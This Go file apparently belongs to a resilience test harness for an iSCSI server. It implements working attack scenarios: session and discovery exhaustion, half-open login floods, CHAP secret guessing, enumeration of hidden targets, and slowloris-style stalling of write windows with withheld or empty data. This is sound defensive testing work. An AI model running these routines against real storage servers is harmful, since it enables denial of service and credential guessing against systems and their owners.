package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"time"

	"lunar/internal/initiator"
)

// The attacks of this file need no secret.

// discoveryLoops keep the server busy with lists of targets.
func discoveryLoops(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	crowd(ctx, 64, func(i int) error {
		c, err := s.login(ctx, malloryAddress, stranger("", i))
		if err != nil {
			return err
		}
		defer c.Close()
		for ctx.Err() == nil {
			if _, err := c.SendTargets("All"); err != nil {
				return err
			}
			t.add("lists/s", 1)
		}
		return nil
	})
	return t.figures(), nil
}

// discoveryPlaces takes all discovery sessions that there are.
func discoveryPlaces(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	go s.honest(ctx, t, as("iqn.2026-11.example.host:honest", "", nil, 0))
	crowd(ctx, 16, s.taking(ctx, t, ""))
	return t.figures(), nil
}

// manySessions takes all sessions that there are.
func manySessions(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	go s.honest(ctx, t, as("iqn.2026-11.example.host:honest", openTarget, nil, 0))
	crowd(ctx, 16, s.taking(ctx, t, openTarget))
	return t.figures(), nil
}

// taking opens one session after the other and keeps them.
func (s *scene) taking(ctx context.Context, t *tally, target string) func(i int) error {
	var serials [16]int
	return func(i int) error {
		serials[i]++
		_, err := s.login(ctx, malloryAddress, stranger(target, i<<16|serials[i]))
		if err == nil {
			t.add("taken", 1)
		}
		return err
	}
}

// halfOpen sends half of a login on one connection after the other.
func halfOpen(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	go s.honest(ctx, t, as("iqn.2026-11.example.host:honest", openTarget, nil, 0))
	login := initiator.NewPDU(initiator.OpLoginRequest, 0x87, nil)
	crowd(ctx, 6, func(int) error {
		c, err := dialFrom(ctx, malloryAddress, s.Portal)
		if err == nil {
			_, err = c.Write(login.BHS[:24])
			t.add("connections/s", 1)
		}
		pause(ctx, 10*time.Millisecond)
		return err
	})
	return t.figures(), nil
}

// reconnects fill the log.
func reconnects(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	crowd(ctx, 8, func(i int) error {
		c, err := s.login(ctx, malloryAddress, stranger(openTarget, i))
		if err != nil {
			return err
		}
		t.add("logins/s", 1)
		return c.Close()
	})
	return t.figures(), nil
}

// guess tries secrets of the canary's.
func guess(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	crowd(ctx, 16, func(i int) error {
		wrong := initiator.CHAP{User: canaryCHAP.User, Secret: fmt.Appendf(nil, "canary-secret-%d", s.Seed)}
		c, err := s.login(ctx, malloryAddress, as(malloryName, canaryTarget, &wrong, uint32(i)))
		var refused *initiator.LoginFailure
		switch {
		case err == nil:
			return c.Close()
		case errors.As(err, &refused) && refused.Class == 2 && refused.Detail == 1: // otherwise it learned nothing
			t.add(guesses, 1)
			return nil
		}
		return err
	})
	return t.figures(), nil
}

// probe tries to tell targets apart that are none of a stranger's.
func probe(ctx context.Context, s *scene) (figures, error) {
	answers := map[string]bool{}
	for _, target := range []string{prefix + "hidden", prefix + "forbidden", prefix + "absent"} {
		_, err := s.login(ctx, malloryAddress, stranger(target, 1))
		if err == nil {
			err = errors.New("admitted")
		}
		answers[err.Error()] = true
	}
	t := newTally()
	t.add(tellApart, float64(len(answers)-1))
	c, err := s.login(ctx, malloryAddress, stranger("", 2))
	if err != nil {
		return nil, err
	}
	targets, err := c.SendTargets("All")
	_, back, _ := strings.Cut(s.Back, ":")
	for _, d := range targets {
		if d.Name == prefix+"hidden" || d.Name == prefix+"forbidden" {
			t.add(listed, 1)
		}
		for _, a := range d.Addresses {
			if strings.Contains(a, ":"+back) {
				t.add(listed, 1)
			}
		}
	}
	<-ctx.Done()
	return t.figures(), err
}

// session is one whose commands somebody fills with what he does not finish.
type session func(target string, isid int) initiator.Options

// unhelped are keys with which all data wait for R2T.
var unhelped = initiator.Keys{{Name: "InitialR2T", Value: "Yes"}, {Name: "ImmediateData", Value: "No"}, {Name: "MaxOutstandingR2T", Value: "8"}}

// withheld fills windows with writes whose data never come.
func withheld(target string, who session) func(context.Context, *scene) (figures, error) {
	return func(ctx context.Context, s *scene) (figures, error) {
		t := newTally()
		crowd(ctx, 4, func(i int) error {
			o := who(target, i)
			o.Keys = unhelped
			c, err := s.ready(ctx, malloryAddress, o)
			if err != nil {
				return err
			}
			defer c.Close()
			return fillWindow(ctx, c, t, nil)
		})
		return t.figures(), nil
	}
}

// emptyData does the same with Data-Out PDUs that bring nothing.
func emptyData(ctx context.Context, s *scene) (figures, error) {
	t := newTally()
	crowd(ctx, 4, func(i int) error {
		o := stranger(openTarget, i)
		o.Keys = unhelped
		c, err := s.ready(ctx, malloryAddress, o)
		if err != nil {
			return err
		}
		defer c.Close()
		sns := map[uint32]uint32{}
		return fillWindow(ctx, c, t, func(task *initiator.Task) error {
			for _, r2t := range task.R2Ts {
				tag := r2t.TTT()
				if err := c.Send(c.DataOut(task, tag, sns[tag], int(r2t.U32(initiator.AtOffset)), nil)); err != nil {
					return err
				}
				sns[tag]++
				t.add("empty PDUs/s", 1)
			}
			return nil
		})
	})
	return t.figures(), nil
}

// fillWindow keeps as many writes of 256 KiB under way as it may, holds their data, and
// has tend see to each ten times a second.
func fillWindow(ctx context.Context, c *initiator.Conn, t *tally, tend func(*initiator.Task) error) error {
	var held []*initiator.Task
	data := make([]byte, 256<<10)
	for ctx.Err() == nil {
		task, err := c.Start(initiator.Command{CDB: cdb16(0x8a, len(held)%64*512, 512), Out: data, Attr: initiator.AttrSimple, HoldData: true})
		if err == nil {
			held = append(held, task)
			t.add("writes/s", 1)
			continue
		}
		if !errors.Is(err, initiator.ErrWindowClosed) {
			return err
		}
		for _, task := range held {
			if tend != nil && !task.Done {
				if err := tend(task); err != nil {
					return err
				}
			}
		}
		if err := listen(c, 100*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

// listen takes what comes for a while.
func listen(c *initiator.Conn, d time.Duration) error {
	for until := time.Now().Add(d); time.Now().Before(until); {
		if _, err := c.Step(max(time.Until(until), time.Millisecond)); err != nil && !errors.Is(err, initiator.ErrTimeout) {
			return err
		}
	}
	return nil
}

// halfCommands leave writes unfinished in the middle of their immediate data.
func halfCommands(target string, who session) func(context.Context, *scene) (figures, error) {
	return func(ctx context.Context, s *scene) (figures, error) {
		t := newTally()
		crowd(ctx, 256, func(i int) error {
			o := who(target, i)
			o.Keys = initiator.Keys{{Name: "FirstBurstLength", Value: "262144"}}
			c, err := s.ready(ctx, malloryAddress, o)
			if err != nil {
				return err
			}
			defer c.Close()
			if err := c.SendBytes(halfWrite(c)); err != nil {
				return err
			}
			t.add("half commands", 1)
			for pause(ctx, 3*time.Second) {
				if err := c.SendBytes([]byte{0}); err != nil {
					return err
				}
			}
			return nil
		})
		return t.figures(), nil
	}
}

// halfWrite is the beginning of a write with as much immediate data as there may be.
func halfWrite(c *initiator.Conn) []byte {
	n := min(256<<10, c.Params.FirstBurstLength, c.Params.TargetMaxRecv) &^ 511
	p := initiator.NewPDU(initiator.OpSCSICommand, initiator.FlagFinal|initiator.FlagWrite|initiator.AttrSimple, nil)
	p.BHS[5], p.BHS[6], p.BHS[7] = byte(n>>16), byte(n>>8), byte(n)
	p.SetU32(initiator.AtITT, c.NewITT())
	p.SetU32(initiator.AtTTT, uint32(n))
	p.SetU32(initiator.AtCmdSN, c.CmdSN)
	p.SetU32(initiator.AtExpStatSN, c.ExpStatSN)
	copy(p.BHS[initiator.AtCDB:], cdb16(0x8a, 0, n/512))
	return append(p.BHS[:], make([]byte, 512)...)
}

// loginRequest is a login request of a connection that does it by hand.
func loginRequest(flags byte, keys initiator.Keys, isid [6]byte) *initiator.PDU {
	p := initiator.NewPDU(initiator.OpLoginRequest, flags, keys.Text())
	p.SetImmediate()
	copy(p.BHS[8:14], isid[:])
	p.SetU32(initiator.AtITT, 1)
	binary.BigEndian.PutUint32(p.BHS[initiator.AtCmdSN:], 1)
	return p
}
